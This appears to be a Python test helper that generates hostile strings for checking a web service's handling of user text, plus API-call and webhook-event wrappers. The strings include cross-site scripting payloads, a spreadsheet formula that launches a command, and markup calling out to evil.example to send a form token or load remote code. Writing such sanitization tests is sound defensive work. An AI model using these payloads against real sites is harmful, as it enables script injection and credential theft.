"""Strings that a page would break of, if it took them for markup, and a service that gets them."""

from app.webhooks.incoming.apply import apply_events
from tests.factories import AUTH
from tests.reporting import store_events

# Strings of two parts each; no pair of parts comes twice.
COUNT = 500


def make_hostile(count=COUNT):
    """Make strings that a page would break of, if it took them for markup."""
    parts = (
        "<script>alert({n})</script>",
        '"><img src=x onerror=alert({n})>',
        "' onmouseover='alert({n})",
        "</textarea></title></style><svg/onload=alert({n})>",
        "<!-- {n} --><base href=//evil.example>",
        "{{{{ config }}}} {{% raw %}} {n}",
        "&lt;b&gt;{n}&amp;nbsp; &#60;",
        "javascript:alert({n})//",
        "=cmd|' /C calc'!A{n}",
        "\u202e{n} right to left \u2066",
        "`{n}` \\u003cscript\\u003e",
        "]]><![CDATA[{n}",
        "<form action=//evil.example><input name=csrf_token {n}",
        "<a href=data:text/html,{n}>",
        "%3Cscript%3E{n}%00",
        "\U0001f9d1\u200d\U0001f680 {n} \u0627\u0644\u0639\u0631\u0628\u064a\u0629",
        "</p></section></main><h1>{n}",
        "<meta http-equiv=refresh content=0;url=//{n}>",
        "<div hx-get=//evil.example/{n} hx-trigger=load>",
        "<details open ontoggle=alert({n})>",
        "<iframe srcdoc='<script>alert({n})</script>'>",
        "<p style=position:fixed;inset:0;font-size:900px>{n}",
        "<link rel=stylesheet href=//evil.example/{n}.css>",
        "Z\u0351\u036b\u0343\u036a\u0302a\u0335\u0318\u0331l{n}",
        "WWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWW{n}",
    )
    return [f"{parts[n % len(parts)]}{parts[n * 7 % 24]}".format(n=n)[:100] for n in range(count)]


def reach(service):
    """Return functions that call the API of a service, and that tell it what people wrote."""
    http = service.test_client()

    def call(method, path, body=None):
        answer = http.open(path, method=method, json=body, headers=AUTH)
        assert answer.status_code < 400, (answer.get_json(), body)
        return answer.get_json()

    def hear(*callbacks):
        ctx = service.extensions["clarion"]
        store_events(ctx, *callbacks)
        while apply_events(ctx):
            pass

    return call, hear
